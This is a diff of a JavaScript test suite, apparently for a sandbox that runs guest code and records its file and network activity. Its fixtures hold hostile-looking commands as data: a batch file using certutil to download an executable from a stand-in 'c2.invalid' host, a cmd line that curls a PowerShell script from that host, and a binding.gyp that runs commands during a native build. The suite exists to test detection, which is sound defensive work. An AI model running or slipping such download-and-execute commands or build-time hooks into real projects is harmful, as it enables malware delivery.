@@ -103,7 +103,39 @@ describe("runCommand in a shell", () => {
   });
 });
 
+describe("runCommand of what builds native code", () => {
+  test("runCommand runs the commands that reading a description runs, and those of its actions", async () => {
+    const gyp = `{ "targets": [{ "sources": ["<!(node other.js read > /dev/null; echo a.c)"], # a comment
+      "actions": [{ "action": ["node", "other.js", "acted"] }] }] }`;
+
+    const { observations } = await runGuest('require("child_process").execSync("node-gyp rebuild");', {
+      files: { "binding.gyp": gyp, "other.js": "require('fs').writeFileSync('/tmp/made', process.argv[2]);" },
+    });
+
+    const written = observations.filter(({ api }) => api === "fs.writeFile");
+    expect(written.map(({ data }) => data["content"])).toEqual(["read", "acted"]);
+  });
+
+  test("runCommand fails to build where nothing is described", async () => {
+    const { printed } = await execute("node-gyp rebuild");
+
+    expect(printed).toEqual(["failed "]);
+  });
+});
+
 describe("runCommand on Windows", () => {
+  test("runCommand finds a batch file of the folder by its name", async () => {
+    const { observations } = await runGuest(
+      'require("child_process").spawn("cmd.exe", ["/c", "setup.bat"]);',
+      {
+        files: { "setup.bat": "@echo off\r\ncertutil -urlcache -f https://c2.invalid/w %TEMP%\\w.exe\r\n" },
+        world: createWorld("win32-laptop", 0),
+      },
+    );
+
+    expect(lines(observations, "network")).toEqual(["https://c2.invalid/w"]);
+  });
+
   test("runCommand follows a line of cmd", async () => {
     const { observations } = await execute(
       'cmd /c "set A=po&& start /b %SystemRoot%\\x.exe & curl -o %TEMP%\\a.ps1 https://c2.invalid/a"',
